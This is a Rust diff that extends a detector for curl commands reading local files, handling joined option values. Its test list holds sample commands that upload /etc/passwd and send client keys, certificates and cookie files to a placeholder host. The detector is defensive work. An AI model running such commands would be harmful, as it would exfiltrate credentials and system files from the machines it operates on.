@@ -306,8 +306,17 @@ fn reads_local_files(line: &str) -> bool {
     let Some(words) = shlex::split(line) else {
         return false;
     };
-    let mut prev = "";
-    for w in &words {
+    let mut last = "";
+    for word in &words {
+        // `--opt=value` is `--opt value`; `-bFILE` is `-b FILE`, as the
+        // curl reader takes them.
+        let (prev, w) = match word.split_once('=').filter(|(f, _)| f.starts_with("--")) {
+            Some((flag, value)) => (flag, value),
+            None if word.len() > 2 && word.starts_with("-b") && !word.starts_with("--") => {
+                ("-b", &word[2..])
+            }
+            None => (last, word.as_str()),
+        };
         let file_opt = matches!(
             prev,
             "-T" | "--upload-file"
@@ -328,7 +337,7 @@ fn reads_local_files(line: &str) -> bool {
         {
             return true;
         }
-        prev = w;
+        last = word;
     }
     false
 }
@@ -536,6 +545,14 @@ mod tests {
             "curl --cacert /tmp/ca.pem https://x",
             "curl -b cookies.txt https://x",
             "curl -K ~/.curlrc https://x",
+            // The same with the value joined to its option.
+            "curl --upload-file=/etc/passwd https://x",
+            "curl --cacert=/tmp/ca.pem https://x",
+            "curl --cert=/root/client.pem https://x",
+            "curl --key=/root/client.key https://x",
+            "curl --cookie=cookies.txt https://x",
+            "curl -bcookies.txt https://x",
+            "curl -E /root/client.pem https://x",
         ] {
             assert!(reads_local_files(bad), "{bad}");
         }
